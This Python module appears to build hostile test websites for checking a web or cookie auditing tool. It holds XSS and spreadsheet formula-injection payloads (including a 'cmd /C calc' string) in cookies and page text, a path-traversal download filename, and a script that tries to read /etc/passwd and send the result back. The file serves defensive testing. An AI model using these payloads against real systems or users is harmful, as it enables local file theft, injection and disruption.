"""The hostile test world: sites built to hurt an auditor, one host each under
exemple-hostile.fr (tests/test_hostile.py, tests/test_security.py).

The redirect loop, the page that never answers, the renderer crash and V8 heap exhaustion
are the bad inputs of tests/e2e.py (BAD_INPUT); they are not repeated here.

What the sites saw of the auditor is kept in module state the tests read: the beacons of the
page that tries to read the local disk, how many downloads were sent whole.
"""

from __future__ import annotations

import json
import threading
from functools import lru_cache

from .web import Response, html, redirect, text

DOMAIN = "exemple-hostile.fr"


def url(host: str) -> str:
    return f"https://{host}.{DOMAIN}/"


# --- what the sites observed (read by the tests) ---------------------------------------------
_lock = threading.Lock()
SEEN = {"disk_reports": [], "downloads_started": 0, "downloads_complete": 0,
        "popups_opened": 0}


def _count(key: str, value=1) -> None:
    with _lock:
        if isinstance(SEEN[key], list):
            SEEN[key].append(value)
        else:
            SEEN[key] += value


# --- a plain French page around each site's content ------------------------------------------
LEGAL_LINKS = ('<a href="/mentions-legales">Mentions légales</a> '
               '<a href="/politique-de-confidentialite">Politique de confidentialité</a>')


def page(title: str, main: str, *, head: str = "", footer: str = LEGAL_LINKS,
         body_end: str = "", charset: str | None = "utf-8") -> str:
    meta = f'<meta charset="{charset}">' if charset else ""
    return f"""<!DOCTYPE html>
<html lang="fr">
<head>
{meta}
<title>{title}</title>
{head}
</head>
<body>
<header><a href="/">Accueil</a>
<nav><a href="/a-propos">À propos</a> <a href="/contact">Contact</a></nav></header>
<main>
{main}
</main>
<footer>{footer}</footer>
{body_end}
</body>
</html>
"""


def legal_notice(company: str, city: str, director: str) -> str:
    return f"""<h1>Mentions légales</h1>
<h2>Éditeur du site</h2>
<p>Le site est édité par la {company}, au capital de 7 500 €, immatriculée au Registre du
commerce et des sociétés de {city} sous le numéro RCS {city} 812 345 676.<br>
Siège social : 12 rue de l’Église, 29000 {city}, France<br>
Téléphone : 02 98 12 34 56<br>
Courriel : contact@exemple-hostile.fr</p>
<h2>Directeur de la publication</h2>
<p>{director}, gérant.</p>
<h2>Hébergeur</h2>
<p>OVH SAS, 2 rue Kellermann, 59100 Roubaix, France<br>
Téléphone : 09 72 10 10 07</p>"""


ABOUT = "<h1>À propos</h1><p>Une petite entreprise française.</p>"
CONTACT = "<h1>Contact</h1><p>Écrivez-nous : contact@exemple-hostile.fr</p>"
NOTICE = legal_notice("SARL Exemple Hostile", "Quimper", "M. Yann Le Goff")
POLICY = ("<h1>Politique de confidentialité</h1><p>Nous ne déposons que les cookies "
          "nécessaires au fonctionnement du site, conservés 13 mois au plus.</p>")


def plain_site(home_title: str, home: str, **layout):
    """A site of five pages: a home page of its own, the others ordinary."""
    pages = {"/": (home_title, home), "/a-propos": ("À propos", ABOUT),
             "/contact": ("Contact", CONTACT), "/mentions-legales": ("Mentions légales", NOTICE),
             "/politique-de-confidentialite": ("Politique de confidentialité", POLICY)}

    def handler(request):
        if request.path not in pages:
            return html(page("Page introuvable", "<h1>Page introuvable</h1>"), 404)
        return html(page(*pages[request.path], **layout))
    return handler


# --- a page that never finishes loading --------------------------------------------------------
STREAM_PAUSE = 0.5


def endless(request):
    """The page starts, then its body keeps coming, a paragraph every half second, forever."""
    if request.path != "/":
        return html(page("Page introuvable", "<h1>Page introuvable</h1>"), 404)

    def chunks():
        head, _, _ = page("Chargement", "<h1>Bientôt prêt</h1>MARK").partition("MARK")
        yield 0, head.encode()
        n = 0
        while True:
            n += 1
            yield STREAM_PAUSE, f"<p>Encore un instant… {n}</p>\n".encode()
    return Response(200, content_type="text/html; charset=utf-8", stream=chunks())


# --- a 50 MB page ----------------------------------------------------------------------------
HEAVY_BYTES = 50 * 1024 * 1024
_PARAGRAPH = ("<p>Notre maison propose des produits régionaux, des conseils et un service "
              "attentif. " * 12) + "</p>\n"


@lru_cache(maxsize=1)
def heavy_home() -> bytes:
    head, _, tail = page("Catalogue complet", "MARK").partition("MARK")
    head, tail = head.encode(), tail.encode()
    paragraph = _PARAGRAPH.encode()
    count = (HEAVY_BYTES - len(head) - len(tail)) // len(paragraph) + 1
    return head + paragraph * count + tail


def heavy(request):
    if request.path == "/":
        return Response(200, heavy_home())
    return plain_site("", "")(request)


# --- endless timers: a setTimeout chain, a cookie written every 50 ms forever ---------------
TIMERS_JS = """<script>
(function chain() { setTimeout(chain, 0); })();
let n = 0;
setInterval(() => { document.cookie = "compteur=" + (++n) + "; path=/; max-age=3600"; }, 50);
</script>"""


def timers(request):
    return plain_site("Minuteries", "<h1>Des minuteries sans fin</h1>", head=TIMERS_JS)(request)


# --- thousands of cookies ---------------------------------------------------------------------
COOKIES_PER_WAY = 2000  # by Set-Cookie headers, and as many by document.cookie, on every page
THOUSANDS_JS = """<script>
for (let i = 0; i < %d; i++) {
  document.cookie = "lot-js-" + i + "=v" + i + "; path=/; max-age=86400";
}
</script>""" % COOKIES_PER_WAY


def thousands(request):
    response = plain_site("Mille cookies", "<h1>Des milliers de cookies</h1>",
                          head=THOUSANDS_JS)(request)
    if response.status == 200:
        for i in range(COOKIES_PER_WAY):
            response.header("Set-Cookie", f"lot-h-{i}=v{i}; Path=/; Max-Age=86400")
    return response


# --- payloads in cookie names and values, storage, page text, a banner and a policy --------
# Each value carries SECRET, so a value that reaches a report file is found by a plain search
# whatever escaping it went through; SECRET never appears in any page's text.
SECRET = "valeur-secrete"
PAYLOADS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
            '=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "@SUM(1)"]
PAYLOAD_SET_COOKIES = [
    f"<script>alert(1)</script>={SECRET}-a<script>alert(2)</script>; Max-Age=63072000; Path=/",
    f"+cmd|' /C calc'!A0={SECRET}-b\"><img src=x onerror=alert(1)>; Max-Age=63072000; Path=/",
    f"@SUM(1)=@SUM({SECRET}-c); Max-Age=63072000; Path=/",
    f'=HYPERLINK("http://x","{SECRET}-d"); Path=/',  # no name: all of it is the value
    f"{SECRET}-e-sans-nom; Path=/",                   # no "=": a value without a name
]
PAYLOAD_JS = """<script>
document.cookie = '"><img src=x onerror=alert(1)>; path=/; max-age=63072000';
document.cookie = "=HYPERLINK(\\"http://x\\",\\"y\\")=%(s)s-f; path=/";
document.cookie = "%(s)s-g-sans-nom; path=/";
document.cookie = "@SUM(1)+cmd=+cmd|' /C calc'!A0%(s)s-h; path=/; max-age=63072000";
localStorage.setItem('<script>alert("stockage")<\\/script>', '=HYPERLINK("http://x","%(s)s-i")');
sessionStorage.setItem('"><img src=x onerror=alert(1)>', "%(s)s-j");
// A visitor id in a cookie, and in the action of the newsletter form built from it.
document.cookie = "visiteur=%(s)s-k-4815162342; path=/; max-age=63072000";
addEventListener("DOMContentLoaded", () => {
  const form = document.createElement("form");
  form.action = "/lettre?visiteur=%(s)s-k-4815162342";
  document.body.appendChild(form);
});
</script>""" % {"s": SECRET}
# Text the pages show (the markup escaped, so that it is text in the page too).
SHOWN = " ".join(PAYLOADS).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
PAYLOAD_BANNER = f"""<div id="bandeau-cookies" role="dialog" aria-label="Cookies"
 style="position:fixed;left:0;right:0;bottom:0;background:#fff;padding:1em;z-index:1000">
<p>Nous utilisons des cookies {SHOWN}. Acceptez-vous les cookies ?</p>
<button type="button" id="refuser">Tout refuser</button>
<button type="button" id="accepter">Tout accepter</button>
</div>
<script>
for (const b of document.querySelectorAll("#bandeau-cookies button")) {{
  b.addEventListener("click", () => {{
    document.cookie = "choix=" + b.id + "; path=/; max-age=15552000";
    document.getElementById("bandeau-cookies").remove();
  }});
}}
if (document.cookie.includes("choix=")) document.getElementById("bandeau-cookies").remove();
</script>"""
PAYLOAD_POLICY = f"""<h1>Politique de confidentialité
&lt;script&gt;alert("titre")&lt;/script&gt;</h1>
<h2>Cookies</h2>
<p>Nos cookies sont conservés 13 mois au maximum &quot;&gt;&lt;img src=x onerror=alert(1)&gt;.</p>
<p>=HYPERLINK("http://x","y") Vos données ne quittent jamais l’Union européenne.</p>
<table><tr><th>Cookie</th><th>Durée</th></tr>
<tr><td>&lt;script&gt;alert(1)&lt;/script&gt;</td><td>6 mois</td></tr>
<tr><td>@SUM(1)</td><td>6 mois</td></tr>
<tr><td>+cmd|' /C calc'!A0</td><td>6 mois</td></tr></table>
<h2>Vos droits</h2><p>Écrivez à dpo@exemple-hostile.fr. {SHOWN}</p>"""
PAYLOAD_NOTICE = legal_notice("SARL &lt;script&gt;alert(3)&lt;/script&gt; Charges",
                              "Quimper", "M. =HYPERLINK(\"http://x\",\"y\") Le Goff")


def payloads(request):
    pages = {"/": ("Accueil &lt;script&gt;alert(1)&lt;/script&gt;",
                   f"<h1>Bienvenue {SHOWN}</h1><p>{SHOWN}</p>"),
             "/a-propos": ("À propos", f"<h1>À propos</h1><p>{SHOWN}</p>"),
             "/contact": ("Contact", CONTACT),
             "/mentions-legales": ("Mentions légales", PAYLOAD_NOTICE),
             "/politique-de-confidentialite": ("Politique de confidentialité", PAYLOAD_POLICY)}
    if request.path not in pages:
        return html(page("Page introuvable", "<h1>Page introuvable</h1>"), 404)
    response = html(page(*pages[request.path], head=PAYLOAD_JS, body_end=PAYLOAD_BANNER))
    for line in PAYLOAD_SET_COOKIES:
        response.header("Set-Cookie", line)
    return response


# --- a 10,000-link footer ---------------------------------------------------------------------
FOOTER_LINKS = 10_000


@lru_cache(maxsize=1)
def _many_links() -> str:
    links = " ".join(f'<a href="/page/{i}">Page {i}</a>' for i in range(FOOTER_LINKS))
    return f"<nav>{links}</nav> {LEGAL_LINKS}"


def links(request):
    if request.path.startswith("/page/"):
        return html(page("Une page", "<h1>Une page parmi d’autres</h1>"))
    return plain_site("Plan du site", "<h1>Tout le site</h1>", footer=_many_links())(request)


# --- a banner over the whole page that cannot be closed ---------------------------------------
# "Tout accepter" does nothing; "Tout refuser" is covered by a transparent layer.
WALL = """<div id="mur" class="cookie-consent" role="dialog" aria-label="Cookies"
 style="position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.9);color:#fff;
 display:flex;align-items:center;justify-content:center;flex-direction:column">
<p>Nous utilisons des cookies pour la mesure d’audience et la publicité.
Acceptez-vous les cookies ?</p>
<div><button type="button" id="accepter">Tout accepter</button>
<span style="position:relative;display:inline-block">
<button type="button" id="refuser">Tout refuser</button>
<span style="position:absolute;inset:-6px;z-index:1"></span></span></div>
</div>
<script>document.cookie = "suivi=" + Math.random() + "; path=/; max-age=63072000";</script>"""


def wall(request):
    return plain_site("Accueil", "<h1>Bienvenue</h1>", body_end=WALL)(request)


# --- a storm of pop-ups -----------------------------------------------------------------------
POPUP_STORM = """<script>
let n = 0;
const open = () => window.open("/fenetre?n=" + (n++), "_blank");
for (let i = 0; i < 20; i++) open();
setInterval(open, 100);
document.addEventListener("click", () => { for (let i = 0; i < 10; i++) open(); }, true);
</script>"""
POPUP_PAGE = """<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Promo</title>
</head><body><h1>Offre spéciale !</h1></body></html>"""


def popups(request):
    if request.path == "/fenetre":
        _count("popups_opened")
        return html(POPUP_PAGE)
    return plain_site("Accueil", "<h1>Promotions</h1>", body_end=POPUP_STORM)(request)


# --- forced downloads -------------------------------------------------------------------------
DOWNLOAD_MARK = b"FICHIER-TELECHARGE-PIEGE\n"
DOWNLOAD_BYTES = 16 * 1024 * 1024
_CHUNK = 256 * 1024


def attachment(request):
    """16 MB sent as an attachment whose name climbs out of any folder, over about 1.5 s."""
    _count("downloads_started")

    def chunks():
        yield 0, DOWNLOAD_MARK
        for _ in range(DOWNLOAD_BYTES // _CHUNK):
            yield 0.02, b"\0" * _CHUNK
        _count("downloads_complete")  # reached only when every chunk was written
    response = Response(200, content_type="application/octet-stream", stream=chunks())
    return response.header("Content-Disposition",
                           'attachment; filename="../../../../../tmp/piege.sh"')


# The link is clicked by the page while it loads; a slow script holds the page's
# DOMContentLoaded until the download has begun.
DOWNLOAD_HOME = """<h1>Votre facture</h1>
<a id="facture" href="/facture.pdf" download="../../facture.pdf">Télécharger</a>
<script>document.getElementById("facture").click();</script>
<script src="/lent.js"></script>
<iframe src="/piece-jointe" width="10" height="10" title="pièce jointe"></iframe>
<p><a href="/a-propos">Notre catalogue</a></p>"""


def downloads(request):
    if request.path in ("/facture.pdf", "/piece-jointe", "/a-propos"):  # an internal page too
        return attachment(request)
    if request.path == "/lent.js":
        return Response(200, b"/* slow */", "application/javascript", hold=1.5)
    response = plain_site("Accueil", DOWNLOAD_HOME)(request)
    if request.path == "/mentions-legales":  # read all the same, without saving it anywhere
        response.header("Content-Disposition", 'attachment; filename="mentions-legales.html"')
    return response


# --- alert(), confirm(), prompt() without end; a page that asks before it is left -----------
DIALOGS_JS = """<script>
window.addEventListener("beforeunload", (event) => {
  event.preventDefault(); event.returnValue = "Vraiment partir ?"; return "Vraiment partir ?";
});
window.addEventListener("load", () => setTimeout(() => {
  for (let i = 0; ; i++) {
    alert("Alerte " + i); confirm("Confirmer ?"); prompt("Votre nom ?", "x");
  }
}, 100));
</script>"""


def dialogs(request):
    return plain_site("Accueil", "<h1>Des boîtes de dialogue</h1>", head=DIALOGS_JS)(request)


# --- text that is not UTF-8 -------------------------------------------------------------------
# windows-1252 said only by the HTTP header (no <meta charset>), with the characters that
# differ from ISO-8859-1 (’ € Œ).
CP1252_COMPANY = "SARL Crêperie Œuvre & Frères"
CP1252_DIRECTOR = "M. Loïc Hervé"
CP1252_NOTICE = legal_notice(CP1252_COMPANY.replace("&", "&amp;"), "Quimper", CP1252_DIRECTOR)


def windows_1252(request):
    pages = {"/": ("Crêperie", "<h1>Crêpes et galettes à l’ancienne</h1><p>Dès 5 €.</p>"),
             "/a-propos": ("À propos", ABOUT), "/contact": ("Contact", CONTACT),
             "/mentions-legales": ("Mentions légales", CP1252_NOTICE),
             "/politique-de-confidentialite": ("Politique de confidentialité", POLICY)}
    if request.path not in pages:
        return text("Page introuvable", 404)
    body = page(*pages[request.path], charset=None).encode("cp1252")
    return Response(200, body, "text/html; charset=windows-1252")


# UTF-8 said by the header and by <meta>, with bytes that are not UTF-8 among good accents.
BAD_BYTES_COMPANY = "SAS Brûlerie Éléonore"
BAD_BYTES_DIRECTOR = "Mme Hélène Dupré"
BROKEN = b"<p>Caf\xe9 cr\xe8me \xff\xfe offert \xc3 \xe2\x82 d\xe8s l\x92ouverture.</p>"


def broken_utf8(request):
    pages = {"/": ("Brûlerie", "<h1>Brûlerie Éléonore</h1>BROKEN"),
             "/a-propos": ("À propos", ABOUT + "BROKEN"), "/contact": ("Contact", CONTACT),
             "/mentions-legales": ("Mentions légales", legal_notice(
                 BAD_BYTES_COMPANY, "Quimper", BAD_BYTES_DIRECTOR) + "BROKEN"),
             "/politique-de-confidentialite": ("Politique de confidentialité", POLICY)}
    if request.path not in pages:
        return text("Page introuvable", 404)
    body = page(*pages[request.path]).encode("utf-8").replace(b"BROKEN", BROKEN)
    return Response(200, body, "text/html; charset=utf-8")


# --- a page that tries to read the local disk ---------------------------------------------
# What each attempt got is sent back in a beacon: "LU" means something was read.
DISK_IMAGE = "/usr/share/icons/hicolor/48x48/apps/chromium.png"  # Debian's chromium has it
DISK_JS = """<script>
(async () => {
  const got = {};
  try {
    const r = await fetch("file:///etc/passwd");
    got.fetch = "LU " + (await r.text()).slice(0, 80);
  } catch (e) { got.fetch = "refusé " + e; }
  await new Promise((done) => {
    try {
      const x = new XMLHttpRequest();
      x.open("GET", "file:///etc/passwd");
      x.onload = () => { got.xhr = "LU " + x.responseText.slice(0, 80); done(); };
      x.onerror = () => { got.xhr = "refusé"; done(); };
      x.send();
    } catch (e) { got.xhr = "refusé " + e; done(); }
  });
  await new Promise((done) => {
    const img = new Image();
    img.onload = () => { got.img = "LU " + img.naturalWidth + "x" + img.naturalHeight; done(); };
    img.onerror = () => { got.img = "refusé"; done(); };
    img.src = "file://%(image)s";
  });
  const frame = document.createElement("iframe");
  frame.src = "file:///etc/passwd";
  document.body.appendChild(frame);
  await new Promise((r) => setTimeout(r, 1000));
  try {  // an iframe that loaded a file:// page would be of another origin
    got.iframe = "refusé " + frame.contentWindow.location.href +
                 " " + frame.contentDocument.body.innerText.slice(0, 80);
  } catch (e) { got.iframe = "LU (autre origine) " + e; }
  navigator.sendBeacon("/rapport", JSON.stringify(got));
})();
</script>""" % {"image": DISK_IMAGE}
# The legal pages are links to the disk, directly or through a redirect.
DISK_FOOTER = ('<a href="file:///etc/passwd">Mentions légales</a> '
               '<a href="/confidentialite">Politique de confidentialité</a> '
               '<a href="file:///etc/hosts">Cookies</a>')


def disk(request):
    if request.path == "/rapport":
        try:
            _count("disk_reports", json.loads(request.body.decode("utf-8")))
        except ValueError:
            _count("disk_reports", {"unreadable": request.body[:200].decode("latin-1")})
        return Response(204, b"", None)
    if request.path == "/confidentialite":
        return redirect("file:///etc/passwd")
    if request.path == "/":
        return html(page("Accueil", "<h1>Bonjour</h1>", footer=DISK_FOOTER, body_end=DISK_JS))
    if request.path in ("/a-propos", "/contact"):
        return html(page("Page", "<h1>Une page</h1>", footer=DISK_FOOTER))
    return html(page("Page introuvable", "<h1>Page introuvable</h1>"), 404)


# --- the sites, their audit's time budget, and what each must show -------------------------
HOSTS = {
    f"sans-fin.{DOMAIN}": endless,
    f"lourde.{DOMAIN}": heavy,
    f"minuteries.{DOMAIN}": timers,
    f"milliers.{DOMAIN}": thousands,
    f"charges.{DOMAIN}": payloads,
    f"liens.{DOMAIN}": links,
    f"banniere.{DOMAIN}": wall,
    f"fenetres.{DOMAIN}": popups,
    f"telechargement.{DOMAIN}": downloads,
    f"dialogues.{DOMAIN}": dialogs,
    f"windows-1252.{DOMAIN}": windows_1252,
    f"octets.{DOMAIN}": broken_utf8,
    f"disque.{DOMAIN}": disk,
}
ENDLESS, HEAVY, TIMERS, THOUSANDS = (
    url(h) for h in ("sans-fin", "lourde", "minuteries", "milliers"))
PAYLOAD, LINKS, WALL_URL, POPUPS = (url(h) for h in ("charges", "liens", "banniere", "fenetres"))
DOWNLOADS, DIALOGS, CP1252, BAD_BYTES, DISK = (
    url(h) for h in ("telechargement", "dialogues", "windows-1252", "octets", "disque"))
SITES = [url(h.split(".")[0]) for h in HOSTS]
DOWNLOAD_ONLY = DOWNLOADS + "a-propos"  # an address that is an attachment, audited as a site

# Host names that would make a path (`..`, `/`) or collide with REPORTS_DIR's own files.
# Unknown to the world: each gets an error report, in a folder of its own inside REPORTS_DIR.
PATH_HOSTS = [
    f"https://..{DOMAIN}/",
    "https://%2e%2e/",
    f"https://a..b.{DOMAIN}/",
    f"https://{'a' * 63}.{'b' * 63}.{'c' * 63}.{DOMAIN}/",
    "https://index.html/",
    "https://history.sqlite/",
]
